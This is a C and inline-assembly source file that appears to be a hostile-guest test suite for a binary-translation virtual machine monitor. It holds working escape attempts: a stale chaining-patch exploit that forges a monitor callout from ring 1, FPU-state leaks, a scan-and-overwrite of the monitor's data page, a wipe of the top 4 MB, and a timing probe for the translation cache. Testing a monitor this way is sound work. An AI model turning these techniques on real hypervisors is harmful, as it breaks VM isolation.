// Hostile guests aimed at binary translation: the translated code runs
// at ring 1 inside the monitor's region, next to the monitor's data, with
// the monitor's segments loaded and its callout gate open.  Each attack
// tries to reach that, or to see it.  Natively (and under a correct
// monitor) none of them finds anything.

#include "types.h"
#include "mmu.h"
#include "x86.h"
#include "traps.h"
#include "string.h"
#include "hostile.h"

// ---- a stale chaining patch (ring-1 escape) ----
//
// Code A holds, as its first eight bytes, a data-segment descriptor with
// the accessed bit clear (mov $0xff,%eax; xchg %eax,%edx; inc %eax; nop),
// and loads it into %ds from a GDT laid out to reach it.  Natively the CPU
// sets the accessed bit in A's bytes.  A monitor that sets that bit for
// the guest when it next looks at %ds -- at A's chaining callout -- writes
// translated code, which flushes the translation cache.  If the callout
// then chains anyway, it patches `jmp rel32` into the freed site, now the
// middle of the next translation made: T's.  A and T are each the first
// translation after a flush, so the patch lands 10 bytes into T, and turns
// T's `and $-1, exploit_ptr` into `jmp *exploit_ptr`: untranslated guest
// code at ring 1, with the callout gate open, which forges a callout.

#define XGDT_ENTRIES 16                 // A's descriptor is slot 16
#define XSEL (XGDT_ENTRIES * 8)

extern uint8_t exploit_gdt[], exploit_a[], smc_victim_imm[];
extern uint32_t exploit_ptr;
uint32_t exploit_ptr;
uint32_t exploit_eax;

asm(".text\n"
    "smc_victim: .byte 0xB8\n"                  // mov $imm32, %eax; ret
    "smc_victim_imm: .long 1\n"
    "        ret\n"
    // The GDT: slots 0-14 here, slot 15 the 8 bytes of code before A,
    // slot 16 A's first 8 bytes.
    ".p2align 3\n"
    "exploit_gdt: .fill 8 * 15, 1, 0\n"
    "exploit_start:\n"
    "        nop\n"
    "        nop\n"
    "        movl %edx, smc_victim_imm\n"          // 6 bytes: flushes the cache
    "exploit_a:\n"                                 // falls through: first after it
    "        .byte 0xB8, 0xFF, 0x00, 0x00, 0x00\n"  // descriptor bytes 0-4
    "        .byte 0x92\n"                          // 5: present, data, writable
    "        .byte 0x40\n"                          // 6: 32-bit, byte granular
    "        .byte 0x90\n"                          // 7: base 31:24
    "        movw %bx, %ds\n"
    "        jmp exploit_t\n"
    "exploit_t:\n"
    "        movw %cx, %ds\n"                       // 0: 8e d9
    "        movl $0x11111111, %eax\n"              // 2: b8 imm32
    "        nop\n"                                 // 7
    "        .byte 0x81, 0xC0\n"                    // 8: add $imm32, %eax
    "        .long 0x22222222\n"
    "        .byte 0x81, 0x25\n"                    // 14: and $imm32, exploit_ptr
    "        .long exploit_ptr, 0xFFFFFFFF\n"
    "        movl %eax, exploit_eax\n"
    "        ret\n"
    // Reached only through the patch: a forged callout, asking the monitor
    // to chain from here to forged_target.
    "escape_code:\n"
    "        int $0xF0\n"
    "        .byte 0, 0, 0, 0\n"
    "        .long forged_target\n"
    "forged_target:\n"
    "        call forged_report\n");

extern char escape_code[];

void forged_report(void)
{
	const uint8_t *p = (const uint8_t *)escape_code;
	printf("chain-stale: ESCAPED: a forged callout was accepted; the monitor wrote "
	       "%02x %02x into guest memory\n", p[0], p[1]);
	printf("hostile: done\n");
	guest_exit(0);
}

static void chain_stale(void)
{
	extern char smc_victim[], exploit_start[];
	uint32_t (*victim)(void) = (uint32_t (*)(void))(uintptr_t)smc_victim;
	uint32_t before = victim();             // translated: its page is protected
	memcpy(exploit_gdt, guest_gdt, G_NSEGS * 8);
	for (int i = 1; i < G_NSEGS; i++)
		((struct segdesc *)exploit_gdt)[i].type |= STA_A;
	struct pseudodesc pd = { XGDT_ENTRIES * 8 + 7, (uint32_t)exploit_gdt };
	lgdt(&pd);
	exploit_ptr = (uint32_t)escape_code;
	asm volatile("call exploit_start"
		     : : "d"(before + 1), "b"(XSEL), "c"(G_KDATA) : "eax", "memory");
	lgdt(&guest_gdt_pd);
	printf("chain-stale: T ran as written, eax=%x, victim now %u\n", exploit_eax, victim());
	(void)exploit_start;
}

// ---- the FPU's instruction pointer ----
//
// fnstenv, fnsave and fxsave store where the last x87 instruction was
// (FIP, FCS) and its memory operand (FDP, FDS): natively the guest's own
// addresses and selectors.

extern char fpu_insn[];
static float one = 1.0f;

static __attribute__((noinline)) void fpu_op(void)
{
	asm volatile("fninit\n"
		     ".globl fpu_insn\n"
		     "fpu_insn: flds %0" : : "m"(one));
}

static void show_fpu(const char *what, uint32_t fip, uint32_t fcs, uint32_t fds)
{
	if (fip == (uint32_t)fpu_insn)
		printf("%s: fip=the flds fcs=%x fds=%x\n", what, fcs & 0xFFFF, fds & 0xFFFF);
	else
		printf("%s: fip=%x (not the flds) fcs=%x fds=%x\n", what, fip, fcs & 0xFFFF,
		       fds & 0xFFFF);
}

static void fpu_fnstenv(void)
{
	uint32_t env[7];
	fpu_op();
	asm volatile("fnstenv %0" : "=m"(env));
	show_fpu("fnstenv", env[3], env[4], env[6]);
}

static void fpu_fnstenv16(void)
{
	uint16_t env[7];
	fpu_op();
	asm volatile("data16 fnstenv %0" : "=m"(env));
	show_fpu("fnstenv (16-bit)", env[3] == ((uint32_t)fpu_insn & 0xFFFF) ?
		 (uint32_t)fpu_insn : env[3], env[4], env[6]);
}

static void fpu_fnsave(void)
{
	uint32_t area[27];
	fpu_op();
	asm volatile("fnsave %0" : "=m"(area));
	show_fpu("fnsave", area[3], area[4], area[6]);
}

static void fpu_fxsave(void)
{
	static uint8_t area[512] __attribute__((aligned(16)));
	uint32_t fip;
	uint16_t fcs, fds;
	fpu_op();
	asm volatile("fxsave %0" : "=m"(area));
	memcpy(&fip, area + 8, 4);
	memcpy(&fcs, area + 12, 2);
	memcpy(&fds, area + 20, 2);
	show_fpu("fxsave", fip, fcs, fds);
}

// ---- the monitor's data, where QEMU lets the guest reach it ----
//
// On our platform the segment limits that would keep a ring-1 guest out of
// the monitor's region are not checked (QEMU's TCG), and the pages the
// translator uses are mapped there.  The guest kernel can find bt_data --
// the page whose selector fields match its own segment registers -- and
// write it.

#define SCAN_FROM 0xFFC00000u
#define SCAN_TO   0xFFF00000u       // below the ROM and the monitor's window

static volatile uint32_t *find_bt_data(void)
{
	for (uint32_t a = SCAN_FROM; a < SCAN_TO; a += PGSIZE) {
		volatile uint32_t *p = (volatile uint32_t *)a;
		// vsel[ES CS SS DS FS GS], after vif and viopl
		if (p[2] == G_KDATA && p[3] == G_KCODE && p[4] == G_KDATA && p[5] == G_KDATA &&
		    p[6] == G_KDATA && p[7] == G_KDATA && p[1] == 0)
			return p;
	}
	return NULL;
}

// Set the VM flag "in the guest's IOPL": a monitor that believed it would
// run the guest kernel untranslated, and mov %cs would show ring 1.
static void viopl_vm(void)
{
	volatile uint32_t *bd = find_bt_data();
	uint32_t cs;
	if (bd)
		bd[1] |= FL_VM;
	// str: a callout, where the monitor reads bt_data; then %cs.
	asm volatile("str %%ax\n\tmovl %%cs, %0" : "=r"(cs) : : "eax");
	printf("viopl: cs=%x\n", cs & 0xFFFF);
}

// Write a pattern over the whole top 4 MB (one word every 256 bytes):
// natively that is unassigned space and ROM; under a monitor, whatever of
// it the guest can reach must not hurt the monitor.
static void write_top(void)
{
	for (uint32_t a = SCAN_FROM; a != 0; a += 256)
		*(volatile uint32_t *)a = 0xFFFFFFFF;
	H_TRY("int3");                  // an exit and a delivery, after all that
	printf("write-top: the machine survived, int3 gave trap %d\n", h_vec);
}

// How long one read of address a takes, at best of three (rdtsc).
static uint32_t read_cost(uint32_t a)
{
	uint32_t best = 0xFFFFFFFF;
	for (int k = 0; k < 3; k++) {
		uint64_t t0 = rdtsc();
		(void)*(volatile uint32_t *)a;
		uint32_t t = rdtsc() - t0;
		if (t < best)
			best = t;
	}
	return best;
}

// Look for the guest's own code among the pages of the top 4 MB: a
// translation cache there holds a copy of it.  Only pages that read fast
// are searched: under a monitor, a read of a page it does not show the
// guest is an exit, thousands of times slower than a read of RAM, and
// searching those byte by byte would take minutes.
static void read_cache(void)
{
	static const uint8_t sig[] = { 0xB8, 0x34, 0x12, 0x5A, 0x5A, 0xBB, 0x44, 0x55, 0x66, 0x77 };
	uint32_t found = 0;
	asm volatile("movl $0x5A5A1234, %%eax\n\tmovl $0x77665544, %%ebx" : : : "eax", "ebx");
	uint32_t ram = read_cost((uint32_t)sig);
	for (uint32_t a = SCAN_FROM; a < SCAN_TO && !found; a += PGSIZE) {
		if (read_cost(a) > 50 * ram + 2000)
			continue;
		const volatile uint8_t *p = (const volatile uint8_t *)a;
		for (uint32_t i = 0; i + sizeof(sig) <= PGSIZE && !found; i++) {
			uint32_t j = 0;
			while (j < sizeof(sig) && p[i + j] == sig[j])
				j++;
			if (j == sizeof(sig))
				found = a + i;
		}
	}
	printf("read-cache: %s\n", found ? "found a copy of the guest's code" : "not found");
}

// int $0xf0 from the guest kernel: the vector of the monitor's callouts,
// which the guest's own IDT gives to its own handler.
static void int_f0(void)
{
	H_TRY("int $0xf0");
	h_report("int $0xf0");
}

static const struct attack attacks[] = {
	{ "chain-stale", chain_stale },
	{ "fpu-fnstenv", fpu_fnstenv },
	{ "fpu-fnstenv16", fpu_fnstenv16 },
	{ "fpu-fnsave", fpu_fnsave },
	{ "fpu-fxsave", fpu_fxsave },
	{ "viopl-vm", viopl_vm },
	{ "write-top", write_top },
	{ "read-cache", read_cache },
	{ "int-f0", int_f0 },
	{ NULL, NULL },
};

void gmain(uint32_t magic, uint32_t mbi)
{
	(void)magic;
	hostile_main(mbi, attacks);
}
